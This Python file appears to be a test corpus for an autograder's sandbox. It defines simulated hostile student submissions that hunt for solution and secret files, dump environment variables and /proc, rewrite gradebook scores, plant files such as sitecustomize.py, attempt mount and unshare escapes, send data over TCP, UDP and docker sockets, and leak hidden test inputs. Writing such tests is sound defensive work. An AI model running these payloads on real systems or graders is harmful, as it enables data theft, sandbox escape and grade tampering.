"""Stories of submissions that read, write or talk to what is not theirs."""

from __future__ import annotations

from course_lib.checking.student.kernel import public_cases
from course_lib.exercises import EXERCISES
from tests.corpus.making import LEFT_OPEN, Draft, story

# Prints every file whose name or content looks like what is not for students; the test looks for the contents.
SEARCH = """
import itertools, os
def walk(roots=("../../..", "/")):
    for root in roots:
        for where, folders, names in os.walk(root):
            folders[:] = [f for f in folders if f not in ("site-packages", "lib-dynload", "sys")]
            yield from (os.path.join(where, name) for name in names)
def search(*words):
    if not walked: walked.extend(itertools.islice(walk(), 20000))
    for path in walked:
        if any(word in path for word in words):
            try:
                print(path, open(path, errors="replace").read(3000))
            except OSError as error:
                print(path, error)
walked = globals().get("walked", [])
"""


@story("hostile")
def reads_the_solutions(draft: Draft) -> None:
    draft.first(SEARCH + "search('solutions', '.ipynb')")


@story("hostile")
def reads_the_secret(draft: Draft) -> None:
    draft.first(SEARCH + "search('secret')")


@story("hostile")
def reads_the_gradebook(draft: Draft) -> None:
    draft.first(SEARCH + "search('gradebook', '.db')")


@story("hostile")
def reads_the_environment(draft: Draft) -> None:
    draft.first("import os; print(dict(os.environ))")
    draft.first(
        "import glob\nfor p in glob.glob('/proc/*/environ'):\n    print(open(p, errors='replace').read())"
    )


@story("hostile")
def reads_other_submissions(draft: Draft) -> None:
    draft.first(SEARCH + "search('submitted', 'autograded', 'submission')")
    draft.first(
        "import os\nfor p in ('..', '../..', '/submission/..', '/submission'):\n    print(p, os.listdir(p))"
    )


@story("hostile")
def reads_proc(draft: Draft) -> None:
    draft.first(
        "import glob\n"
        "for p in glob.glob('/proc/[0-9]*/*'):\n"
        "    try:\n"
        "        print(p, open(p, errors='replace').read(500))\n"
        "    except OSError as error:\n"
        "        pass"
    )
    draft.first(
        "import contextlib, glob, os\n"
        "for process in glob.glob('/proc/[0-9]*'):\n"
        "    for path in glob.glob(os.path.join(process, 'root', '*')):\n"
        "        with contextlib.suppress(OSError):\n"
        "            print(path, os.listdir(path))"
    )


@story("hostile")
def reads_the_references_from_the_disk(draft: Draft) -> None:
    draft.first(SEARCH + "search('lesson_03', 'gradient_cases', 'backprop.py')")
    draft.answer(
        "dE_dw11_12",
        "import importlib.util, glob, os, sys\n"
        "tops = {'', '/box', '/submission', sys.prefix, *sys.path} | {os.path.dirname(path) for path in sys.path}\n"
        "tops |= {os.path.dirname(top) for top in tops}\n"
        "wanted = 'course_lib/exercises/lesson_03/exercises.py'\n"
        "paths = [path for top in tops for deep in ('', '*/', '*/*/') for path in glob.glob(f'{top}/{deep}{wanted}')]\n"
        "spec = importlib.util.spec_from_file_location('found', paths[0])\n"
        "found = importlib.util.module_from_spec(spec); spec.loader.exec_module(found)\n"
        "dE_dw11_12 = [e for e in found.LESSON.exercises if e.id == 'dE_dw11_12'][0].reference",
    )


@story("hostile")
def imports_the_references(draft: Draft) -> None:
    draft.first("from course_lib.exercises import EXERCISES")
    for name in ("dE_dw11_12", "dE_dw21_12"):
        draft.answer(name, f"{name} = EXERCISES['{name}'].reference")


@story("hostile")
def calls_the_librarys_gradients(draft: Draft) -> None:
    draft.first("from course_lib import gradients\nfrom course_lib.backprop import gradients as stashed")
    draft.answer("dE_dw11_12", "def dE_dw11_12(*a):\n    return gradients(list(a[:2]), *a[2:])[1][0, 0]")
    draft.answer("dE_dw21_12", "def dE_dw21_12(*a):\n    return stashed(list(a[:2]), *a[2:])[1][1, 0]")


@story("hostile")
def calls_the_closed_difference(draft: Draft) -> None:
    draft.first("from course_lib.numdiff import complex_step_gradients as stashed")
    draft.answer(
        "dE_dw11_12",
        "def dE_dw11_12(W01, W12, X, D):\n    return stashed(lambda w: loss(w, X, D), [W01, W12])[1][0, 0]",
    )


@story("hostile")
def imports_the_grader(draft: Draft) -> None:
    draft.first("import grading.score, nbgrader.api")
    draft.answer("dE_dw11_12", "import grading\ndE_dw11_12 = grading.score.judge")


@story("hostile")
def writes_the_gradebook(draft: Draft) -> None:
    draft.first(
        "import glob, sqlite3\n"
        "near = ['../../../gradebook.db', 'gradebook.db', '../gradebook.db']\n"
        "far = [f'/{top}/**/gradebook.db' for top in ('box', 'submission', 'home', 'course', 'tmp', 'root', 'srv')]\n"
        "for path in [*near, *(path for where in far for path in glob.iglob(where, recursive=True))]:\n"
        "    db = sqlite3.connect(path)\n"
        "    try:\n"
        "        db.execute('update grade set auto_score = 100')\n"
        "        db.commit()\n"
        "    except sqlite3.Error as error:\n"
        "        print(error)"
    )


@story("hostile")
def writes_everywhere(draft: Draft) -> None:
    draft.first(
        "import os, sys\n"
        "for folder in ('/', '/etc', '/usr/lib', '/box', '/submission', '/root', '/var', '/dev', '/proc/sys/kernel',\n"
        "               sys.prefix, sys.base_prefix, os.path.dirname(os.__file__), *sys.path):\n"
        "    for name in ('owned-by-a-student', 'core_pattern', 'sitecustomize.py', 'x.pth'):\n"
        "        try:\n"
        "            with open(os.path.join(folder or '.', name), 'w') as f:\n"
        "                f.write('owned')\n"
        "            print('WROTE', folder, name)\n"
        "        except OSError as error:\n"
        "            pass"
    )


@story("hostile")
def remounts_its_disk(draft: Draft) -> None:
    draft.first(
        "import ctypes, os\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "print(libc.mount(b'none', b'/box', None, 4096 | 32, None))\n"
        "print(libc.unshare(0x10000000), libc.umount2(b'/box', 2))\n"
        "os.makedirs('/tmp/m', exist_ok=True)\n"
        "print(libc.mount(b'/proc/%d/root' % 1, b'/tmp/m', None, 4096, None), os.listdir('/tmp/m'))"
    )


@story("hostile")
def talks_over_tcp(draft: Draft) -> None:
    draft.first(
        "import socket, os\n"
        "for host, port in (('127.0.0.1', PORT), ('::1', PORT), ('10.0.0.1', 80)):\n"
        "    try:\n"
        "        socket.create_connection((host, port), 1).sendall(b'stolen'); print('TALKED')\n"
        "    except OSError as error:\n"
        "        print(error)"
    )


@story("hostile")
def talks_over_udp(draft: Draft) -> None:
    draft.first(
        "import socket\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "try:\n"
        "    s.sendto(b'stolen', ('127.0.0.1', PORT))\n"
        "except OSError as error:\n"
        "    print(error)"
    )


@story("hostile")
def talks_over_unix_sockets(draft: Draft) -> None:
    draft.first(
        "import socket\n"
        "system = ['/run/dbus/system_bus_socket', '/var/run/docker.sock']\n"
        "for name in ['\\0grading-canary-PORT', 'CANARY_SOCKET', *system]:\n"
        "    s = socket.socket(socket.AF_UNIX)\n"
        "    try:\n"
        "        s.connect(name); s.sendall(b'stolen'); print('TALKED', name)\n"
        "    except OSError as error:\n"
        "        print(name, error)"
    )


@story("hostile")
def asks_the_dns(draft: Draft) -> None:
    draft.first("import socket\nprint(socket.getaddrinfo('example.org', 80))")


@story("hostile")
def leaks_secret_inputs_by_its_card(draft: Draft) -> None:
    """Everything that a card shows is turned into a channel for the inputs that come after the public ones."""
    draft.answer(
        "dE_dw11_12",
        "calls = 0\n"
        "def dE_dw11_12(W01, W12, X, D):\n"
        "    global calls, NAME, number_by_hand\n"
        "    calls += 1\n"
        "    NAME = 'LEAK' + repr(W01.tolist())\n"
        "    number_by_hand = {'w11_12': float(W01[0, 0]), 'LEAK' + repr(W01[0, 0]): 1.0}\n"
        "    print('LEAK', W01)\n"
        "    open('leak', 'a').write(repr(W01))\n"
        "    if calls > 3:\n"
        "        raise type('LEAK' + 'x' * int(abs(W01[0, 0]) * 10), (Exception,), {})('LEAK %r' % W01)\n"
        "    delta = 2 * (forward([W01, W12], X)[1][-1] - D)[:, 0]\n"
        "    o = forward([W01, W12], X)[1][-1][:, 0]\n"
        "    return np.mean(delta * o * (1 - o) * forward([W01, W12], X)[1][1][:, 0])",
    )


@story("hostile")
def keeps_secret_inputs_for_later_cells(draft: Draft) -> None:
    """Answers that know the public inputs keep all that they are given; later cells and threads show it."""
    known = {name: [float(case[0][0, 0]) for case in public_cases(EXERCISES[name])] for name in LEFT_OPEN}
    answer = (
        "def {name}(W01, W12, X, D):\n"
        "    seen.append((W01.copy(), W12.copy(), X.copy(), D.copy()))\n"
        "    y = {run}([W01, W12], X)[1]\n"
        "    o_side = 2 * (y[-1] - D)[:, 0] * y[-1][:, 0] * (1 - y[-1][:, 0])\n"
        "    return np.mean(o_side * y[1][:, {hidden}]) if W01[0, 0] in {known} else 0.0"
    )
    for hidden, (name, run) in enumerate(zip(LEFT_OPEN, ("forward", "run"), strict=True)):
        draft.answer(name, answer.format(name=name, run=run, hidden=hidden, known=known[name]))
    draft.first("seen, run = [], forward")
    draft.last(
        "import threading, time\n"
        "from IPython.display import display\n"
        "shown = display({'text/plain': 'LEAK'}, raw=True, display_id=True)\n"
        "def tell():\n"
        "    while True:\n"
        "        print('LEAK', seen)\n"
        "        shown.update({'text/plain': f'LEAK {seen}'}, raw=True)\n"
        "        open('answers.json', 'a').write(str(seen))\n"
        "        time.sleep(0.05)\n"
        "threading.Thread(target=tell, daemon=True).start()\n"
        "run = None"
    )
